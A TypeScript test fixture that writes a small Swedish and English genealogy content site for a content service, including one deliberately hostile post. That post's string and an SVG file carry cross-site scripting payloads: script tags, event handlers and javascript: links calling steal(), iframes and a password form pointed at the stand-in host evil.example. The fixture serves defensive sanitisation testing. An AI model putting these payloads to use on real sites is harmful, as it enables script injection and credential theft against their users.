import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

/** What an editor whose account was taken over might publish. */
export const attack = `<script>document.title = 'owned'</script>
<p onclick="steal()" style="position:fixed">Text <a href="javascript:steal()">link</a></p>
<img src="https://evil.example/pixel.png" onerror="steal()">
<iframe src="https://evil.example/frame"></iframe>
<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Film"></iframe>
<form action="https://evil.example"><input name="password"></form>
</script><!--bootstrap--><div id="root"></div>%nonce%`;

const picture = `picture:
  file: hero-8.png
  alt: "Ett uppslag & en penna"
  width: 8
  height: 6
`;

const onePixel = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** A few texts for the content service, one of them hostile. Gives the folder. */
export async function writeTestSite(folder: string): Promise<string> {
  const files: Record<string, string | Buffer> = {
    'se/landing/00-head.md': post('Släktforska i kyrkböcker'),
    'se/landing/01-hero.md': post('Läs dig <hem>', 'Varje socken förde **bok**.', picture),
    'se/landing/02-attack.md': post('Angrepp', attack),
    'en/landing/00-head.md': post('Trace your family'),
    'en/landing/01-hero.md': post('Read your way home', 'Every parish kept a **book**.', picture),
    'se/subscriptions/00-head.md': post('Abonnemang'),
    'en/subscriptions/00-head.md': post('Subscriptions'),
    'se/secret/00-head.md': post('Inte en sida'),
    'media/hero-8.png': onePixel,
    'media/drawing.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script></svg>',
  };
  for (const [name, content] of Object.entries(files)) {
    await mkdir(join(folder, name, '..'), { recursive: true });
    await writeFile(join(folder, name), content);
  }
  return folder;
}

const post = (title: string, body = '', more = '') =>
  `---\ntitle: ${JSON.stringify(title)}\nexcerpt: ${JSON.stringify(`Om ${title}`)}\ndate: 2026-11-16T08:00:00\n${more}---\n${body}\n`;
